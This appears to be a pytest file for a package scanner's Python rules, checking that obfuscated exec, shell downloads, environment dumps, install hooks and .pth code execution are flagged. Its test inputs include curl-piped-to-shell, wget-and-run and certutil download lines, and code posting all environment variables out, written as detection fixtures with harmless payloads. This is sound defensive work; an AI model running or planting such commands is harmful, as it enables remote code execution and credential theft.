"""Python rules: each rule fires on its pattern however names are imported, stays quiet on everyday code, and
survives hostile files (deep expressions, null bytes, bad encodings) with a finding instead of an exception."""

import base64
import textwrap

from pypi_platform.lib.scans.python_rules import MAX_FINDINGS_PER_RULE, pth_findings, python_findings

PAYLOAD = base64.b64encode(b"print('hello')").decode()


def _found(source: str | bytes, **options) -> list[tuple[str, int | None]]:
    data = source if isinstance(source, bytes) else textwrap.dedent(source).encode()
    # The lookup itself (obfuscation.indirect-call) is tested in test_behaviours_recon.py; here, what it reaches.
    return [
        (finding.rule, finding.line)
        for finding in python_findings("pkg-1.0/setup.py", data, **options)
        if finding.rule != "obfuscation.indirect-call"
    ]


def _rules(source: str | bytes, **options) -> set[str]:
    return {rule for rule, _ in _found(source, **options)}


# --- exec.dynamic-code and obfuscation.decode-and-exec ---------------------------------------------------------
def test_eval_of_a_computed_value_is_dynamic_code():
    assert _found("import sys\neval(sys.argv[1])\n") == [("exec.dynamic-code", 2)]


def test_exec_of_a_string_literal_is_quiet():
    assert _found("exec('x = 1')\ncompile('1 + 1', '<s>', 'eval')\n") == []


def test_compile_to_a_syntax_tree_only_is_quiet():
    assert _found("import ast\ntree = compile(text, name, 'exec', ast.PyCF_ONLY_AST)\n") == []


def test_builtins_eval_and_an_assigned_alias_of_exec_are_dynamic_code():
    source = """
    import builtins
    run = exec
    builtins.eval(code)
    run(code)
    __builtins__["exec"](code)
    """
    assert _found(source) == [("exec.dynamic-code", 4), ("exec.dynamic-code", 5), ("exec.dynamic-code", 6)]


def test_a_module_that_defines_its_own_compile_is_not_calling_the_builtin():
    assert _found("def compile(pattern):\n    return pattern\n\ncompile(user_input)\n") == []


def test_exec_of_base64_decoded_text_is_decode_and_exec_only():
    source = f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n"
    assert _found(source) == [("obfuscation.decode-and-exec", 2)]


def test_decode_and_exec_through_aliases_chains_and_slices():
    source = f"""
    import zlib as z, codecs
    from base64 import b64decode as d
    exec(z.decompress(d('{PAYLOAD}')).decode())
    eval(codecs.decode('{PAYLOAD[::-1]}'[::-1], 'rot13'))
    exec(''.join(chr(c) for c in [112, 114, 105, 110, 116]))
    exec(bytes.fromhex('7072696e74283129'))
    exec(''.join(map(chr, [112, 114, 105, 110, 116])))
    """
    assert _found(source) == [("obfuscation.decode-and-exec", line) for line in (4, 5, 6, 7, 8)]


def test_exec_of_joined_text_beside_an_unrelated_chr_is_only_dynamic_code():
    assert _found("exec('\\n'.join(lines) + chr(10))\n") == [("exec.dynamic-code", 1)]


def test_decode_and_exec_through_an_intermediate_variable():
    source = f"""
    import base64

    def run():
        payload = base64.b64decode('{PAYLOAD}')
        code = payload.decode('utf-8')
        exec(payload)
    """
    assert _found(source) == [("obfuscation.decode-and-exec", 7)]


def test_a_decoded_variable_in_another_function_does_not_make_exec_a_decode():
    source = f"""
    import base64

    def load():
        payload = base64.b64decode('{PAYLOAD}')
        return payload

    def run(payload):
        exec(payload)
    """
    assert _found(source) == [("exec.dynamic-code", 9)]


def test_marshal_loaded_code_run_as_a_function_is_decode_and_exec_and_marshal_load():
    source = "import marshal, types\nf = types.FunctionType(marshal.loads(blob), globals())\n"
    assert sorted(_found(source)) == [("obfuscation.decode-and-exec", 2), ("obfuscation.marshal-load", 2)]


def test_a_function_made_from_an_existing_code_object_is_quiet():
    assert _found("import types\nclone = types.FunctionType(f.__code__, {})\n") == []


# --- exec.dynamic-import, exec.native-library, obfuscation.marshal-load ---------------------------------------
def test_import_of_a_computed_name_is_dynamic():
    source = "import importlib\n__import__(name)\nimportlib.import_module('plugins.' + name)\n"
    assert _found(source) == [("exec.dynamic-import", 2), ("exec.dynamic-import", 3)]


def test_import_of_a_literal_name_is_quiet():
    assert _found("import importlib\n__import__('json')\nimportlib.import_module('json')\n") == []


def test_ctypes_library_loading_is_native_library():
    source = """
    import ctypes
    from ctypes import cdll, CDLL as Loader
    ctypes.CDLL('libc.so.6')
    cdll.LoadLibrary('libx.so')
    Loader('liby.so')
    ctypes.windll.kernel32.VirtualAlloc(0, 4096, 0x3000, 0x04)
    """
    assert _found(source) == [("exec.native-library", line) for line in (4, 5, 6, 7)]


def test_ctypes_types_without_a_library_are_quiet():
    assert _found("import ctypes\nsize = ctypes.sizeof(ctypes.c_int)\n") == []


def test_marshal_loads_is_marshal_load():
    assert _found("import marshal\ncode = marshal.loads(data)\n") == [("obfuscation.marshal-load", 2)]


def test_marshal_dumps_is_quiet():
    assert _found("import marshal\nblob = marshal.dumps(code)\n") == []


# --- obfuscation.high-entropy-literal ------------------------------------------------------------------------
def test_a_long_random_bytes_literal_is_high_entropy():
    blob = bytes((index * 7919 + index // 3) % 256 for index in range(4_000))
    (finding,) = python_findings("pkg/x.py", b"import os\nDATA = " + repr(blob).encode() + b"\n")
    assert (finding.rule, finding.line) == ("obfuscation.high-entropy-literal", 2)
    assert finding.evidence.startswith("4,000 bytes, ") and "bits per symbol" in finding.evidence
    assert len(finding.evidence) <= 120


def test_long_base64_data_and_prose_are_not_high_entropy():
    blob = base64.b64encode(bytes((index * 7919) % 251 for index in range(3_000))).decode()
    prose = "The quick brown fox jumps over the lazy dog. " * 100
    assert _found(f"ICON = '{blob}'\nDOC = '{prose}'\nCJK = '{'漢字仮名交じり文' * 300}'\n") == []


# --- install.cmdclass-override -------------------------------------------------------------------------------
def test_setup_replacing_install_commands_is_a_cmdclass_override_naming_them():
    source = """
    from setuptools import setup as make
    from setuptools.command.install import install

    commands = {'develop': Develop}
    commands['install'] = Install
    make(name='x', cmdclass=commands)
    """
    (finding,) = python_findings("pkg-1.0/setup.py", textwrap.dedent(source).encode())
    assert (finding.rule, finding.line, finding.path) == ("install.cmdclass-override", 7, "pkg-1.0/setup.py")
    assert finding.evidence == "cmdclass replaces develop, install"


def test_setup_with_a_dict_call_and_options_unpacked_is_a_cmdclass_override():
    source = """
    import distutils.core
    options = dict(name='x', cmdclass=dict(egg_info=Hooked))
    distutils.core.setup(**options)
    """
    assert _found(source) == [("install.cmdclass-override", 3)]  # where the cmdclass entry is written


def test_routine_cmdclass_entries_are_quiet():
    source = "import setuptools\nsetuptools.setup(cmdclass={'build_ext': BuildExt, 'sdist': Sdist, 'test': Test})\n"
    assert _found(source) == []


# --- network.connection --------------------------------------------------------------------------------------
def test_network_clients_are_connections_however_imported():
    source = """
    import socket, urllib.request, requests as r
    from http.client import HTTPSConnection
    from urllib import request
    socket.create_connection(('example.org', 443))
    urllib.request.urlopen(url)
    request.urlopen(url)
    r.get(url)
    HTTPSConnection('example.org')
    """
    assert _found(source) == [("network.connection", line) for line in (5, 6, 7, 8, 9)]


def test_url_parsing_is_not_a_connection():
    assert (
        _found("import urllib.parse, socket\nparts = urllib.parse.urlsplit(u)\nsocket.gethostname()\n") == []
    )


# --- process.spawn and process.shell-download ----------------------------------------------------------------
def test_process_spawning_through_aliases_is_spawn():
    source = """
    import os
    from os import system
    from subprocess import Popen as P
    system('ls')
    P(['ls', '-l'])
    os.execvp('ls', ['ls'])
    """
    assert _found(source) == [("process.spawn", line) for line in (5, 6, 7)]


def test_a_literal_dunder_import_resolves_to_its_module():
    source = "__import__('os').system('id')\n__import__('subprocess').check_output(['id'])\n"
    assert _found(source) == [("process.spawn", 1), ("process.spawn", 2)]


def test_getattr_with_a_literal_attribute_and_sys_modules_resolve():
    source = "import os, sys\ngetattr(os, 'system')('id')\nsys.modules['os'].popen('id')\n"
    assert _found(source) == [("process.spawn", 2), ("process.spawn", 3)]


def test_a_star_import_resolves_the_names_it_brings():
    assert _found("from subprocess import *\ncheck_call(['make'])\n") == [("process.spawn", 2)]


def test_a_local_function_named_like_a_spawner_is_quiet():
    assert _found("def system(command):\n    return command\n\nsystem('ls')\n") == []


def test_curl_piped_into_a_shell_is_shell_download_as_well_as_spawn():
    source = """
    import os, subprocess
    os.system('curl -fsSL http://example.org/x.sh | sh')
    subprocess.run(['bash', '-c', 'wget -qO /tmp/x http://example.org/x && chmod +x /tmp/x && /tmp/x'])
    command = 'powershell -NoProfile -EncodedCommand SQBFAFgA'
    subprocess.Popen(command, shell=True)
    subprocess.call('certutil -urlcache -split -f http://example.org/a.exe a.exe')
    """
    found = _found(source)
    assert [line for rule, line in found if rule == "process.shell-download"] == [3, 4, 6, 7]
    assert [line for rule, line in found if rule == "process.spawn"] == [3, 4, 6, 7]


def test_a_download_that_is_not_run_is_only_a_spawn():
    source = "import subprocess\nsubprocess.run(['curl', '-o', 'data.json', url])\nsubprocess.run('sha256sum x | sort')\n"
    assert _found(source) == [("process.spawn", 2), ("process.spawn", 3)]


# --- file.write ----------------------------------------------------------------------------------------------
def test_opening_for_writing_and_path_writes_are_file_writes():
    source = """
    import io, os, pathlib
    open('out.txt', 'w')
    io.open('log', mode='ab')
    pathlib.Path('x').write_text('data')
    os.open('y', os.O_WRONLY | os.O_CREAT)
    """
    assert _found(source) == [("file.write", line) for line in (3, 4, 5, 6)]


def test_opening_for_reading_is_quiet():
    assert _found("open('in.txt')\nopen('in.bin', 'rb')\nopen(name, mode)\n") == []


# --- credentials.environment-dump ----------------------------------------------------------------------------
def test_the_whole_environment_sent_or_serialised_is_an_environment_dump():
    source = """
    import json, os, requests
    from os import environ
    requests.post(url, json=dict(os.environ))
    payload = json.dumps({**environ})
    sock.sendall(str(os.environ.items()).encode())

    def report(url):
        snapshot = dict(os.environ)
        requests.put(url, data=snapshot)
    """
    found = _found(source)
    # line 9 gathers what line 10 sends
    assert [line for rule, line in found if rule == "credentials.environment-dump"] == [4, 5, 6, 9, 10]


def test_passing_the_environment_to_a_subprocess_or_reading_one_variable_is_quiet():
    source = """
    import json, os, subprocess
    subprocess.run(['make'], env=os.environ.copy())
    home = json.dumps(os.environ.get('HOME'))
    print(str(os.environ['PATH']))
    """
    assert _found(source) == [("process.spawn", 3)]


# --- suppressions ignored, evidence, paths -------------------------------------------------------------------
def test_a_nosec_comment_changes_nothing():
    assert _found("import os\nos.system(cmd)  # nosec\neval(x)  # noqa\n") == [
        ("process.spawn", 2),
        ("exec.dynamic-code", 3),
    ]


def test_evidence_is_a_short_excerpt_of_the_line_and_the_path_is_unchanged():
    source = b"import os\n" + b"x = 1; " * 50_000 + b"os.system(cmd)\n"
    (finding,) = python_findings("pkg-1.0/src/x.py", source)
    assert finding.path == "pkg-1.0/src/x.py" and finding.line == 2
    assert finding.evidence.startswith("…os.system(cmd)") and len(finding.evidence) <= 120


def test_an_encoding_cookie_is_honoured():
    source = "# -*- coding: latin-1 -*-\nimport os\nos.system('café')\n".encode("latin-1")
    (finding,) = python_findings("pkg/x.py", source)
    assert (finding.rule, finding.line, finding.evidence) == ("process.spawn", 3, "os.system('café')")


def test_windows_line_endings_and_a_byte_order_mark_keep_lines_and_evidence_right():
    source = "\ufeffimport os\r\nx = 1\ros.system('é')\r\n".encode()
    (finding,) = python_findings("pkg/x.py", source)
    assert (finding.line, finding.evidence) == (3, "os.system('é')")


def test_findings_of_one_rule_are_capped_per_file():
    source = "import os\n" + "".join(f"os.system('step {index}')\n" for index in range(250))
    assert len(_found(source)) == MAX_FINDINGS_PER_RULE


# --- hostile input -------------------------------------------------------------------------------------------
MALICIOUS = f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n"


def test_a_long_flat_expression_appended_to_a_malicious_file_is_a_parse_failure_and_the_rest_is_scanned():
    source = MALICIOUS + "x = " + "+".join(["1"] * 100_000) + "\n"
    failure, finding = python_findings("pkg/x.py", source.encode())
    assert (failure.rule, failure.line) == ("parse.failed", 3)
    assert failure.evidence.startswith("RecursionError")
    assert (finding.rule, finding.line) == ("obfuscation.decode-and-exec", 2)


def test_an_expression_that_parses_but_breaks_recursive_visitors_is_walked():
    # ast.NodeVisitor fails from ~500 terms; the parser (under pytest's own stack) still takes 2,000.
    source = MALICIOUS + "x = " + "+".join(["1"] * 2_000) + "\n"
    assert _found(source) == [("obfuscation.decode-and-exec", 2)]


def test_too_many_nested_brackets_is_a_parse_failure():
    assert _found("x = " + "(" * 250 + "1" + ")" * 250 + "\n") == [("parse.failed", 1)]


def test_a_very_deep_unary_chain_is_a_parse_failure():
    (finding,) = python_findings("pkg/x.py", b"x = " + b"-" * 60_000 + b"1\n")
    assert finding.rule == "parse.failed"


def test_null_bytes_and_invalid_utf8_are_parse_failures_of_their_lines_only():
    assert _found(b"import os\x00\nos.system('x')\n") == [("parse.failed", 1), ("process.spawn", 2)]
    assert _found(b"import os\nx = '\xff\xfe'\n") == [("parse.failed", 2)]


def test_an_invalid_escape_is_not_a_parse_failure_even_when_warnings_are_errors(recwarn):
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert _found(b"import re\nPATTERN = re.compile('\\d+')\n") == []


def test_the_node_cap_stops_the_walk_and_keeps_what_was_found_before_it():
    source = "import os\nos.system('a')\n" + "x = 1\n" * 100 + "eval(x)\n"
    found = _found(source, max_nodes=20)
    assert found == [("process.spawn", 2), ("parse.node-limit", None)]
    assert ("exec.dynamic-code", 103) in _found(source)


# --- .pth files ----------------------------------------------------------------------------------------------
def test_an_import_line_in_a_pth_file_executes_code_and_is_scanned_as_python():
    text = f"# a comment\nsome/path\nimport base64; exec(base64.b64decode('{PAYLOAD}'))\n"
    findings = pth_findings("pkg-1.0/evil.pth", text)
    assert sorted((f.rule, f.line, f.path) for f in findings) == [
        ("install.pth-executes-code", 3, "pkg-1.0/evil.pth"),
        ("obfuscation.decode-and-exec", 3, "pkg-1.0/evil.pth"),
    ]


def test_a_pth_file_of_paths_is_quiet_and_an_indented_import_does_not_run():
    assert pth_findings("pkg/paths.pth", "src\n../lib\n  import os\nimportlib_thing\n") == []


def test_a_plain_import_line_in_a_pth_file_is_still_reported():
    (finding,) = pth_findings("pkg/x.pth", "import\tsite_hook\n")
    assert (finding.rule, finding.line, finding.evidence) == (
        "install.pth-executes-code",
        1,
        "import\tsite_hook",
    )


def test_exec_of_a_file_read_from_the_release_is_not_dynamic_code_but_a_network_read_is():
    source = b"""\
import pathlib
from urllib.request import urlopen
about = {}
with open("pkg/__version__.py") as f:
    exec(f.read(), about)
exec(open("pkg/version.py").read())
exec(pathlib.Path("pkg/v.py").read_text())
response = urlopen("http://example.invalid/x")
exec(response.read())
"""
    dynamic = [f.line for f in python_findings("pkg-1.0/setup.py", source) if f.rule == "exec.dynamic-code"]
    assert dynamic == [9]


def test_code_stored_backwards_and_executed_is_decode_and_exec():
    source = b"payload = ')1(tnirp'\nexec(payload[::-1])\nnames = items[::-1]\n"
    assert [(f.rule, f.line) for f in python_findings("pkg/x.py", source)] == [
        ("obfuscation.decode-and-exec", 2)
    ]
